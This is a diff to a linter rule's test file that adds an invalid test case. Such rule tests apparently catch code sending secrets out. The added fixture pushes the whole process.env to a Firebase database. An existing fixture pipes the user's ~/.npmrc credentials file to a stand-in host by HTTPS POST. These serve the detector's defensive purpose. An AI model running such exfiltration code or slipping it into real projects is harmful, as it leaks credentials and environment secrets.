@@ -47,6 +47,7 @@ ruleTester(rule, {
     },
   ],
   invalid: [
+    { code: 'var Firebase = require("firebase");\nvar ref = new Firebase("https://abcde-fg-1234.firebaseio.com/");\nref.child("env_vars").push({ status: "leaked", message: process.env });', errors: [{ messageId: 'flow', line: 3, column: 1, message: 'Firebase' }] },
     {
       code: N + 'fs.createReadStream(path.join(os.homedir(), ".npmrc")).pipe(https.request({ host: "x.example", method: "POST" }));',
       errors: [{ messageId: 'flow', line: 2, column: 1, message: 'pipe to request' }],
